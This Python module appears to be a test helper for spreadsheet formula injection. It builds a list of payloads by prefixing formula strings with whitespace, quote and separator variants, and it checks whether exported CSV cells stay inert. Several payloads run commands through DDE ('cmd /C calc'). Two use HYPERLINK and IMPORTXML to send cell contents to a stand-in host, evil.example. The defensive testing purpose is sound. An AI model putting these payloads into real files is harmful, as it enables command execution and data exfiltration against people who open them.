"""What somebody writes into a report, a name or a note so that a spreadsheet runs it; and what a spreadsheet makes of
a line: its cells, wherever the list separator of the machine cuts."""

import csv
import io
import unicodedata

_BARE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"klik")',
    '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",
]
_BEFORE = [
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\ufeff",
    "\u00a0",
    "\u200b",
    "\u3000",
    '"',
    '""',
    ";",
    ",",
    "\x00",
    "\x0b",
]
_BEFORE += [
    "'",
    "''",
    "' ",
    " '",
    "a;",
    "a\t",
    "a\n",
    "a\r\n",
    'a";"',
    "a; ",
    'a\n"',
    "a;;",
    ";'",
    "a;'",
    "a\n'",
    "a\t\t",
]
_BEFORE += ["kata dia;\ufeff", "x\n\n\n"]
PAYLOADS = [before + payload for before in _BEFORE for payload in _BARE]
_FORMULA = tuple("=+-@")
# What a spreadsheet may trim before it looks.
_TRIMMED = ("Cc", "Cf", "Zs", "Zl", "Zp")


def cells_of(file: bytes, *, separator: str = ",") -> list[str]:
    """Return the cells of the file for a program that cuts at `separator`."""
    text = file.decode("utf-8-sig")
    if separator == ",":
        return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    # Our lines begin with no quote, and a quote within a cell is a sign like any other.
    cells = [text]
    for sign in (separator, "\r", "\n"):
        cells = [part for cell in cells for part in cell.split(sign)]
    return cells


def is_inert(cell: str) -> bool:
    """Whether a spreadsheet takes it for text, whatever it trims, and whichever twins it knows."""
    while cell and (unicodedata.category(cell[0]) in _TRIMMED or cell[0] in '",'):
        cell = cell[1:]
    return not unicodedata.normalize("NFKC", cell[:1]).startswith(_FORMULA)
